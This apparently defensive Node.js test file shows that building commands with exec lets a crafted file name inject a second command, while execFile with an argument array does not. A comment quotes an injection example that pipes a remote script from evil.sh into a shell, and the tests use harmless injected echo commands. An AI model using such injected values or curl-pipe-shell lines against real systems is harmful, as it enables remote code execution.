// spawn-exec-fork: "With a shell, a file called `a.mp4; curl evil.sh | sh` becomes a command."
// spawn-exec-fork: "`execFile` buffers too, but runs the program without a shell, with the arguments as an array."
// spawn-exec-fork: "the name may contain quotes or `$(…)`; avoid the shell and pass an array"
// common-vulnerabilities: "use `execFile` with an argument array instead of `exec`"
import assert from 'node:assert/strict';
import { exec, execFile } from 'node:child_process';
import { promisify } from 'node:util';

const shell = promisify(exec);
const direct = promisify(execFile);
const name = 'a.mp4; echo owned';
assert.equal((await shell(`echo ${name}`)).stdout, 'a.mp4\nowned\n');
assert.equal((await direct('echo', [name])).stdout, 'a.mp4; echo owned\n');
assert.equal((await shell(`echo "$(echo owned)"`)).stdout, 'owned\n');
assert.equal((await shell("echo 'x'; echo owned; echo ''")).stdout, 'x\nowned\n\n');
// A name that begins with a hyphen is read as an option all the same
assert.equal((await direct('echo', ['-n'])).stdout, '');
assert.equal((await direct('echo', ['./-n'])).stdout, './-n\n');
